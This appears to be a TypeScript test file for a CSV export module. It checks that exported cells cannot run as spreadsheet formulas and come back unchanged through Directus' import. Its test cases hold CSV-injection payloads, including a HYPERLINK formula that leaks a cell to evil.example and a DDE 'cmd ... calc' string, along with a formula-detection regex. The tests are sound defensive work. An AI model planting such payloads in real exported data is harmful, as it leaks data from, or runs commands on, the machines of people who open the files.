// CSV files must contain no formulas for spreadsheets, and come back unchanged through Directus' import.

import fc from "fast-check";
import { expect, test } from "vitest";
import { csvHead, csvLines } from "./csv.ts";

/** Parses one row like a spreadsheet (RFC 4180). */
function cellsOf(line: string, separator = ","): string[] {
	const cells: string[] = [];
	let [cell, isQuoted, at] = ["", false, 0];
	for (; at < line.length; at += 1) {
		const sign = line[at] ?? "";
		if (isQuoted && sign === '"' && line[at + 1] === '"') at += 1;
		else if (sign === '"' && (isQuoted || cell === "")) {
			isQuoted = !isQuoted;
			continue;
		} else if (!isQuoted && (sign === separator || sign === "\n")) {
			cells.push(cell);
			cell = "";
			continue;
		}
		cell += sign;
	}
	return [...cells, cell];
}

/** Parses a cell like Directus' import (`transform` in its import service). */
function imported(cell: string): unknown {
	try {
		const value: unknown = JSON.parse(cell);
		return typeof value === "number" ? cell : value;
	} catch {
		return cell;
	}
}

const FORMULA = /^\s*[=+\-@＝＋－＠]|^[\t\r]/;

test.each([
	'=HYPERLINK("http://evil.example/?"&B2,"Jörg")',
	"+1+1",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1)",
	"\t=1",
	"\r=1",
	"  =1+1",
	"＝1+1",
	"Jörg;=1+1;",
	"Jörg,=1+1",
	'Jörg;"=1+1',
	"Liste:\n- eins",
	"Liste:\r\n=1+1",
])("[EV-1] %j is no formula with any separator, and is imported unchanged", (text) => {
	for (const separator of [",", ";"] as const) {
		const line = csvLines([["Mara", text, "Ölz"]], separator);
		expect(cellsOf(line, separator).map(imported)).toEqual(["Mara", text, "Ölz"]);
		for (const other of [",", ";", "\t"])
			for (const cell of cellsOf(line, other)) expect(cell, `${line} at ${other}`).not.toMatch(FORMULA);
	}
});

test("numbers and empty values stay unquoted, texts are quoted", () => {
	expect(csvLines([[-5, "-5.50", true, null, undefined, "", 'a "b"', "c;d\ne", "0049 170"]])).toBe(
		'-5,"-5.50",true,,,"","a ""b""","c;d\ne","0049 170"',
	);
	expect(csvLines([["a"], ["b"]], ";")).toBe('"a"\r\n"b"');
});

test("column names are unquoted if they are identifiers", () => {
	expect(csvHead(["id", "event.title", "E-Mail", "=1"], ";")).toBe('id;event.title;"E-Mail";"""=1"""');
});

test("a structure is written as JSON without formulas", () => {
	const value = { items: ["a;=1+1", ",@b", -1], on: { y: 2 } };
	const [cell = ""] = cellsOf(csvLines([[value]]));
	expect(JSON.parse(cell)).toEqual(value);
	expect(cell).not.toMatch(/[;,][=@]/);
});

test("any text is imported unchanged, and no cell begins with a formula", () => {
	const text = fc.string({
		unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", ",", ";", '"', "'", " ", "a", "ß", "1", "{", "\\"),
	});
	fc.assert(
		fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (row) => {
			const cells = cellsOf(csvLines([row]));
			expect(cells.map(imported)).toEqual(row);
			for (const cell of cells) if (!/^-?\d+$/.test(cell)) expect(cell).not.toMatch(FORMULA);
		}),
	);
});
